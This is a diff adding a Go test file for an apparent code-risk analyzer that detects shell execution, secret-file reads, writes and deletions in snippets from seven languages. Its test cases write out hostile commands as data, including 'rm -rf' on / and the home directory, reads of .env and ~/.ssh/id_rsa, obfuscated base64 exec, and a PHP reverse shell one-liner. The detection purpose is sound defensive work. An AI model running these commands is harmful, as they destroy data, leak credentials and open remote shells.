@@ -1,0 +1,110 @@
+package snippet
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+)
+
+func show(acts []Act) string {
+	var all []string
+	for _, a := range acts {
+		all = append(all, [...]string{"sh", "run", "open", "write", "delete", "tree", "opaque"}[a.Kind]+"("+strings.Join(a.Words, ",")+")")
+	}
+	return strings.Join(all, " ")
+}
+
+func TestRead(t *testing.T) {
+	for _, c := range []struct {
+		lang       Language
+		code, want string
+	}{
+		{Python, `import os; os.system("rm -rf /srv/x")`, "sh(rm -rf /srv/x)"},
+		{Python, `print('os.system("rm -rf /")')`, ""},
+		{Python, `# os.system("rm -rf /")`, ""},
+		{Python, `print("rm -rf /")`, ""},
+		{Python, `import subprocess; subprocess.run(["git","push","-f"], check=True)`, "run(git,push,-f)"},
+		{Python, `import subprocess as sp; sp.run("a b", shell=True)`, "sh(a b)"},
+		{Python, `from os import system; system('a' 'b' + "c")`, "sh(abc)"},
+		{Python, `c = "rm -rf " + x; os.system(c)`, "sh(rm -rf ${__})"},
+		{Python, `os.system(f"rm -rf {p}/x")`, "sh(rm -rf ${__}/x)"},
+		{Python, `subprocess.run("rm -rf build".split())`, "run(rm,-rf,build)"},
+		{Python, `os.execvp("rm", ["rm", "-rf", "x"])`, "run(rm,-rf,x)"},
+		{Python, `shutil.rmtree(os.path.expanduser("~/x"))`, "tree(~/x)"},
+		{Python, `__import__('shutil').rmtree(__import__('os').environ['HOME'])`, "tree(~)"},
+		{Python, `open(".env").read()`, "open(.env)"},
+		{Python, `print(open('.env').read())`, "open(.env)"},
+		{Python, `open("a", "w").write("x")`, "write(a)"},
+		{Python, `with open('a','a') as f: f.write('x')`, "write(a)"},
+		{Python, `from pathlib import Path; print((Path.home()/'.ssh'/'id_rsa').read_text())`, "open(~/.ssh/id_rsa)"},
+		{Python, `Path("x").unlink()`, "delete(x)"},
+		{Python, `exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2EnKQ==").decode())`, "sh(a)"},
+		{Python, `exec(base64.b64decode(sys.argv[1]))`, "opaque()"},
+		{Python, `eval("os.system('a')")`, "sh(a)"},
+		{Python, "x.replace('a', 'b'); l.remove('a'); d.copy('b')", ""},
+		{Python, `app.run("0.0.0.0")`, ""},
+		{JavaScript, `require('child_process').execSync('rm -rf /')`, "sh(rm -rf /)"},
+		{JavaScript, `const {execSync} = require("child_process"); execSync("a")`, "sh(a)"},
+		{JavaScript, `require("fs").readFileSync(` + "`.env`" + `)`, "open(.env)"},
+		{JavaScript, `console.log(require('fs').readFileSync('a'))`, "open(a)"},
+		{JavaScript, `require('fs').appendFileSync(process.env.HOME+'/.bashrc','x')`, "write(~/.bashrc)"},
+		{JavaScript, `require('child_process').spawnSync('rm', ['-rf', 'x'])`, "run(rm,-rf,x)"},
+		{JavaScript, `require('fs').rmSync('d', {recursive:true})`, "tree(d)"},
+		{JavaScript, `/execSync("a")/.exec("b")`, ""},
+		{JavaScript, `// execSync("a")`, ""},
+		{JavaScript, `eval(atob("ZXhlY1N5bmMoJ2EnKQ=="))`, "sh(a)"},
+		{JavaScript, `eval(atob(x))`, "opaque()"},
+		{Ruby, `puts File.read(".env")`, "open(.env)"},
+		{Ruby, `system "rm -rf x"`, "sh(rm -rf x)"},
+		{Ruby, `system("rm", "-rf", "x")`, "run(rm,-rf,x)"},
+		{Ruby, "`rm -rf x`", "sh(rm -rf x)"},
+		{Ruby, "%x(rm -rf x)", "sh(rm -rf x)"},
+		{Ruby, `puts 'system("x")'`, ""},
+		{Ruby, `FileUtils.rm_rf("#{Dir.home}/x")`, "tree(~/x)"},
+		{Ruby, `puts File.read(Dir.home+"/.ssh/id_rsa")`, "open(~/.ssh/id_rsa)"},
+		{Perl, `system("rm -rf /home/user")`, "sh(rm -rf /home/user)"},
+		{Perl, `unlink ".git/hooks/pre-commit"`, "delete(.git/hooks/pre-commit)"},
+		{Perl, `exec "rm","-rf",$ENV{HOME}`, "run(rm,-rf,~)"},
+		{Perl, `open(F, ">", "a"); print F 1`, "write(a)"},
+		{Perl, `open(F, "<a")`, "open(a)"},
+		{Perl, `print "system('x')"`, ""},
+		{Perl, `qx(rm x)`, "sh(rm x)"},
+		{PHP, `$s=fsockopen("1.2.3.4",99);exec("/bin/sh -i <&3 >&3 2>&3");`, "sh(/bin/sh -i <&3 >&3 2>&3)"},
+		{PHP, `echo file_get_contents("a");`, "open(a)"},
+		{PHP, `eval(base64_decode($x));`, "opaque()"},
+		{Lua, `os.execute("rm -rf x")`, "sh(rm -rf x)"},
+		{Lua, `io.open("a", "w"):write("b")`, "write(a)"},
+		{Lua, `-- os.execute("a")`, ""},
+		{Awk, `BEGIN{system("git push -f origin main")}`, "sh(git push -f origin main)"},
+		{Awk, `BEGIN { while ((getline line < ".env") > 0) print line }`, "open(.env)"},
+		{Awk, `{ print $1 > "out" }`, "write(out)"},
+		{Awk, `BEGIN { "date" | getline d }`, "sh(date)"},
+		{Awk, `{ print $1 | "sort" }`, "sh(sort)"},
+		{Awk, `$1 > 5 { print "system(\"x\")" }`, ""},
+	} {
+		if got := show(Read(c.lang, c.code)); got != c.want {
+			t.Errorf("%s\n  %s, want %s", c.code, got, c.want)
+		}
+	}
+}
+
+// TestBounded: code that nests or repeats without end ends.
+func TestBounded(t *testing.T) {
+	for _, code := range []string{strings.Repeat("(", 100000), strings.Repeat("a(", 10000), strings.Repeat("a.b(", 10000), strings.Repeat("system('x');", 10000), strings.Repeat("eval('", 1000), strings.Repeat("[", 9999), strings.Repeat("a='b'+a;", 50)} {
+		for lang := Python; lang <= Awk; lang++ {
+			if n := len(Read(lang, code)); n > maxActs {
+				t.Errorf("%d acts", n)
+			}
+		}
+	}
+}
+
+func FuzzRead(f *testing.F) {
+	f.Add(uint8(1), "os.system('a' + b)")
+	f.Add(uint8(4), "open(F, \">$x\"); `a`")
+	f.Fuzz(func(t *testing.T, lang uint8, code string) {
+		if len(code) < 4000 {
+			_ = fmt.Sprint(Read(Language(lang%8), code))
+		}
+	})
+}
